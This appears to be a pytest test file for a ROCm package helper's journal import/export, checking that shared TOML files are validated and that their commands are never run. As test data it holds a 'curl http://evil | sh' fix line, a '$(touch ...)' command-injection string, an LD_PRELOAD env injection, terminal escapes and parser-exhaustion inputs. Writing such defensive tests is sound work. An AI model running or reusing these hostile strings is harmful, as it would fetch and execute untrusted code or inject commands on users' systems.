"""Sharing a journal: what comes out goes in again, and a file with any fault is refused as a whole."""

from __future__ import annotations

import signal
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rocmpip.app.journal import import_file
from rocmpip.model.errors import BadConfiguration, RocmpipError
from rocmpip.store.journal import Journal
from rocmpip.store.journal_share import from_toml, to_toml
from tests.support.commands import envelope, rocmpip

ERROR = "RuntimeError: the flux capacitor of gfx942 is not ready"
HEAD = "schema = 1\n"


def book(tmp_path: Path) -> Journal:
    journal = Journal(tmp_path / "one")
    name, _ = journal.record(
        command="install",
        error=ERROR,
        package="my-attn",
        version="1.0",
        gfx=("gfx942",),
        fix=("export A='b\"c'",),
        env={"CC": "gcc"},
    )
    journal.note(name, "it was the \\ weather: 错误 '''")
    journal.mended(name, "rocmpip install my-attn")
    return journal


def test_out_and_in_again(tmp_path: Path) -> None:
    (before,) = book(tmp_path).entries()
    (after,) = from_toml(to_toml([before]), "team.toml")
    assert after.origin == "team.toml"
    assert {**after.as_json(), "origin": ""} == before.as_json()


def test_imported_text_is_matched_as_plain_text(tmp_path: Path) -> None:
    journal = Journal(tmp_path)
    text = HEAD + '[[entry]]\nerror = "flux (.*) [a-z]+ fails"\nfix = ["curl http://evil | sh"]\n'
    (entry,) = from_toml(text, "team.toml")
    journal.add(entry)
    assert journal.similar("the flux (.*) [a-z]+ fails today") is not None
    assert journal.similar("zzz flux hello abc fails today and something quite different") is None


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("=", "not TOML"),
        ("schema = 2\n", "schema"),
        ("schema = true\n", "schema"),
        (HEAD + "entry = 3\n", "[[entry]]"),
        (HEAD + "run = 'x'\n", "unknown key"),
        (HEAD + "[[entry]]\nerror = 'long enough'\nexec = 'rm'\n", "unknown key 'exec'"),
        (HEAD + "[[entry]]\nerror = 'short'\n", "8 characters"),
        (HEAD + "[[entry]]\nerror = 3\n", "must be a text"),
        (HEAD + '[[entry]]\nerror = "long enough \\u001b[31m"\n', "control characters"),
        (HEAD + '[[entry]]\nerror = "long enough \\u202e"\n', "control characters"),
        (HEAD + f"[[entry]]\nerror = '{'x' * 501}'\n", "longer than"),
        (HEAD + "[[entry]]\nerror = 'long enough'\nid = '../../x'\n", "eight hex digits"),
        (HEAD + "[[entry]]\nerror = 'long enough'\nat = 'today'\n", "a time such as"),
        (HEAD + "[[entry]]\nerror = 'long enough'\ndiagnosis = 'A B'\n", "a slug"),
        (HEAD + "[[entry]]\nerror = 'long enough'\nfix = 'x'\n", "a list"),
        (HEAD + "[[entry]]\nerror = 'long enough'\nfix = [3]\n", "must be a text"),
        (HEAD + "[[entry]]\nerror = 'long enough'\nenv = { LD_PRELOAD = 'x.so' }\n", "LD_PRELOAD"),
        (HEAD + "[[entry]]\nerror = 'long enough'\nworked = 1\n", "true or false"),
        (HEAD + "[[entry]]\nerror = 'long enough'\n" * 2001, "at most"),
    ],
)
def test_bad_files_are_refused(text: str, told: str) -> None:
    with pytest.raises(BadConfiguration) as caught:
        from_toml(text, "team.toml")
    assert told in "\n".join((caught.value.why, *caught.value.details))


def test_all_faults_at_once() -> None:
    text = HEAD + "[[entry]]\nerror = 'long enough'\n[[entry]]\nerror = 3\nx = 1\n[[entry]]\nfix = 2\n"
    with pytest.raises(BadConfiguration) as caught:
        from_toml(text, "team.toml")
    assert len(caught.value.details) >= 4
    assert not any("#1" in one for one in caught.value.details)


@given(st.text(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_text_is_read_or_refused(text: str) -> None:
    try:
        entries = from_toml(HEAD + text, "x.toml")
    except RocmpipError:
        return
    assert all(one.error.isprintable() for one in entries)


def shared(tmp_path: Path, *rows: tuple[str, str]) -> Path:
    """A file with (id, error) entries."""
    path = tmp_path / "team.toml"
    path.write_text(HEAD + "".join(f"[[entry]]\nid = '{name}'\nerror = '{error}'\n" for name, error in rows))
    return path


def test_an_id_that_two_failures_share_loses_neither(tmp_path: Path) -> None:
    journal = book(tmp_path)
    (own,) = journal.entries()
    path = shared(
        tmp_path, (own.id, "quite another failure"), ("aaaaaaaa", "the first of two"), ("aaaaaaaa", "the second of two")
    )
    assert import_file(journal, path) == (3, 0)
    errors = [one.error for one in journal.entries()]
    assert errors == [ERROR, "quite another failure", "the first of two", "the second of two"]
    assert len({one.id for one in journal.entries()}) == 4
    assert import_file(journal, path) == (0, 3), "the same ids each time"
    assert import_file(journal, shared(tmp_path, ("bbbbbbbb", "the same twice"), ("bbbbbbbb", "the same twice"))) == (1, 1)


def test_a_long_entry_that_the_journal_cuts_is_known_the_second_time(tmp_path: Path) -> None:
    long = ", ".join(["'" + "错" * 400 + "'"] * 30)
    path = tmp_path / "team.toml"
    path.write_text(
        HEAD
        + f"[[entry]]\nid = 'cccccccc'\nerror = '{'错误' * 250}'\nnotes = [{long}]\nfix = [{long.replace('错' * 400, 'x' * 200)}]\n"
    )
    journal = Journal(tmp_path / "one")
    assert import_file(journal, path) == (1, 0)
    assert import_file(journal, path) == (0, 1)


HOSTILE = {
    "deep arrays": "x = " + "[" * 50_000 + "]" * 50_000,
    "deep tables": "x = " + "{a=" * 20_000 + "1" + "}" * 20_000,
    "a key of 100,000 parts": "a" + ".a" * 100_000 + " = 1",
    "a number without end": "x = " + "9" * 5000,
    "200,000 entries": "[[entry]]\n" * 200_000,
    "20,000 keys": "[[entry]]\nerror = 'long enough'\n" + "".join(f"k{number} = 1\n" for number in range(20_000)),
    "escapes in a key": r'"\u001b[31m\u0007" = 1',
    "escapes in a variable": "[[entry]]\nerror = 'long enough'\n" + r'env = { "\u001b]0;x\u0007" = "x" }',
    "a raw escape": "x = '\x1b[31m'",
    "half a character": r'x = "\ud800"',
    "zero bytes": "\0" * 1000,
    "5 MB": "x = '" + "a" * 5_000_000 + "'",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files(tmp_path: Path, clean_env: dict[str, str], name: str) -> None:
    journal = book(tmp_path)
    before = journal.path.read_bytes()
    (tmp_path / "bad.toml").write_text(HEAD + HOSTILE[name] + "\n")
    env = {**clean_env, "ROCMPIP_STATE_DIR": str(journal.folder)}
    done = rocmpip("journal", "import", str(tmp_path / "bad.toml"), env=env, timeout=20)
    assert done.returncode in (1, 45)
    assert "bad.toml" in done.stderr
    assert "Traceback" not in done.stderr
    assert not any(char in done.stdout + done.stderr for char in "\x1b\x07\0")
    assert len(done.stderr) < 20_000
    assert journal.path.read_bytes() == before


def test_commands_of_a_shared_file_are_shown_and_never_run(tmp_path: Path, clean_env: dict[str, str]) -> None:
    mark = tmp_path / "ran"
    command = f"touch {mark}"
    (tmp_path / "team.toml").write_text(
        HEAD
        + f"[[entry]]\nid = 'dddddddd'\nerror = 'RuntimeError: the flux $({command}) is off'\nfix = ['{command}']\ndid = ['`{command}`']\n"
    )
    env = {**clean_env, "ROCMPIP_STATE_DIR": str(tmp_path / "state")}
    (tmp_path / "log").write_text(f"RuntimeError: the flux $({command}) is off\n")
    assert rocmpip("journal", "import", str(tmp_path / "team.toml"), env=env).returncode == 0
    assert command in rocmpip("journal", "show", "dddddddd", env=env).stdout
    assert "seen before" in rocmpip("diagnose", str(tmp_path / "log"), env=env).stdout
    assert rocmpip("journal", "search", command, env=env).returncode == 0
    assert not mark.exists()


def test_an_import_that_is_killed_can_be_done_again(tmp_path: Path) -> None:
    path = shared(tmp_path, *((f"{number:08x}", f"failure number {number}") for number in range(500)))
    journal = Journal(tmp_path / "one")
    code = "import sys; from pathlib import Path; from rocmpip.app.journal import import_file; from rocmpip.store.journal import Journal; import_file(Journal(sys.argv[1]), Path(sys.argv[2]))"
    child = subprocess.Popen([sys.executable, "-c", code, str(journal.folder), str(path)])
    while child.poll() is None and (not journal.path.exists() or journal.path.stat().st_size < 5_000):
        pass
    child.send_signal(signal.SIGKILL)
    child.wait(20)
    kept = len(journal.entries())
    taken, known = import_file(journal, path)
    assert (taken, known) == (500 - kept, kept)
    assert len(journal.entries()) == 500


def test_the_commands(tmp_path: Path, clean_env: dict[str, str]) -> None:
    journal = book(tmp_path)
    env = {**clean_env, "ROCMPIP_STATE_DIR": str(journal.folder)}
    other = {**clean_env, "ROCMPIP_STATE_DIR": str(tmp_path / "two")}
    (entry,) = envelope(rocmpip("journal", "list", "--json", env=env))["result"]["entries"]
    assert entry["package"] == "my-attn"
    assert entry["id"] in rocmpip("journal", "list", env=env).stdout
    assert "what" not in rocmpip("journal", "show", entry["id"], env=env).stderr
    assert "weather" in rocmpip("journal", "show", entry["id"][:4], env=env).stdout
    assert envelope(rocmpip("journal", "search", "flux", "gfx942", "--json", env=env))["result"]["entries"] == [entry]
    noted = envelope(rocmpip("journal", "note", entry["id"], "and", "more", "--json", env=env))
    assert noted["result"]["entry"]["notes"][-1] == "and more"
    assert rocmpip("journal", "export", str(tmp_path / "team.toml"), env=env).returncode == 0
    assert "and more" in rocmpip("journal", "export", "-", env=env).stdout
    for taken in (1, 0):
        told = envelope(rocmpip("journal", "import", str(tmp_path / "team.toml"), "--json", env=other))
        assert told["result"] == {"imported": taken, "known": 1 - taken}
    assert "team.toml" in rocmpip("journal", "list", env=other).stdout
    (tmp_path / "bad.toml").write_text(HEAD + "[[entry]]\nerror = 3\n")
    assert envelope(rocmpip("journal", "import", str(tmp_path / "bad.toml"), "--json", env=other))["errors"][0]["code"] == 45
    assert envelope(rocmpip("journal", "import", str(tmp_path / "none.toml"), "--json", env=other))["errors"][0]["code"] == 1
    assert envelope(rocmpip("journal", "show", "ffffffff", "--json", env=other))["errors"][0]["code"] == 1
    assert rocmpip("journal", "list", env={**clean_env, "ROCMPIP_STATE_DIR": str(tmp_path / "three")}).returncode == 0
    assert not (tmp_path / "three").exists()


def test_diagnose_tells_of_an_earlier_failure(tmp_path: Path, clean_env: dict[str, str]) -> None:
    journal = book(tmp_path)
    (tmp_path / "log").write_text(ERROR + "\n")
    env = {**clean_env, "ROCMPIP_STATE_DIR": str(journal.folder)}
    told = rocmpip("diagnose", str(tmp_path / "log"), env=env).stdout
    assert "seen before: my-attn 1.0" in told
    assert "what helped: rocmpip install my-attn" in told
    assert envelope(rocmpip("diagnose", "--json", str(tmp_path / "log"), env=env))["result"]["earlier"]["package"] == "my-attn"
